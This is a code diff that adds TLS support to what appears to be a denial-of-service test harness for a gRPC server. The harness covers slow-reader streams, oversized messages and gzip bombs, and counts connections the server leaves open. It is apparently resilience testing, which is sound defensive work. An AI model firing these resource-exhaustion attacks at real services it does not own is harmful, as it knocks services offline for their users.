@@ -9,6 +9,7 @@ of them the server has not closed.
 import gzip
 import json
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -46,12 +47,12 @@ OPEN: list[socket.socket] = []
 Outcomes = Counter[str]
 
 
-def slow_readers(target: str, number: int, **_others: Any) -> Outcomes:
+def slow_readers(target: str, number: int, tls: ssl.SSLContext | None = None, **_others: Any) -> Outcomes:
     """Opens streams that it never reads, each on a connection of its own."""
     seen = Outcomes()
     for turn in range(number):
         method = list(ENDLESS)[turn % 2]
-        connection = http2.connect(target, WINDOWS[turn % 3])
+        connection = http2.connect(target, WINDOWS[turn % 3], tls)
         connection.sendall(http2.headers(1, method) + http2.message(1, ENDLESS[method].SerializeToString()))
         OPEN.append(connection)
         seen["opened"] += 1
@@ -144,17 +145,19 @@ def large_messages(target: str, number: int, concurrency: int, size: int, **_oth
     return _codes(target, number, concurrency, lambda _: ("AllocateRange", request))
 
 
-def gzip_bombs(target: str, number: int, concurrency: int, size: int, **_others: Any) -> Outcomes:
+def gzip_bombs(
+    target: str, number: int, concurrency: int, size: int, tls: ssl.SSLContext | None = None, **_others: Any
+) -> Outcomes:
     """Sends such messages compressed by gzip, each on a connection of its own."""
     packed = gzip.compress(pb.AllocateRangeRequest(sequence="x" * size).SerializeToString())
     head = http2.headers(1, "AllocateRange", [("grpc-encoding", "gzip")])
     bomb = head + http2.message(1, packed, is_packed=True)
 
     def drop(_: int) -> str:
-        with http2.connect(target) as connection:
+        with http2.connect(target, tls=tls) as connection:
             connection.settimeout(60)
-            connection.sendall(bomb)
             try:
+                connection.sendall(bomb)
                 while http2.read_frame(connection)[2] != 1:
                     pass
             except OSError:
@@ -251,7 +254,7 @@ def _codes(target: str, number: int, concurrency: int, call: Callable[[int], tup
 def _is_open(connection: socket.socket) -> bool:
     connection.setblocking(False)
     try:
-        return bool(connection.recv(1, socket.MSG_PEEK))
+        return bool(socket.socket.recv(connection, 1, socket.MSG_PEEK))  # with TLS: what is still encrypted
     except BlockingIOError:
         return True
     except OSError:
@@ -290,6 +293,8 @@ ATTACKS: dict[str, Callable[..., Outcomes]] = {
 
 if __name__ == "__main__":
     options = {"concurrency": 8, "seconds": 1e9, "size": 64_000_000} | json.loads(sys.argv[1])
+    if folder := options.get("tls"):
+        options["tls"] = http2.client_context(folder)
     print(json.dumps(ATTACKS[options.pop("attack")](**options)), flush=True)
     sys.stdin.read()
     print(sum(map(_is_open, OPEN)), flush=True)
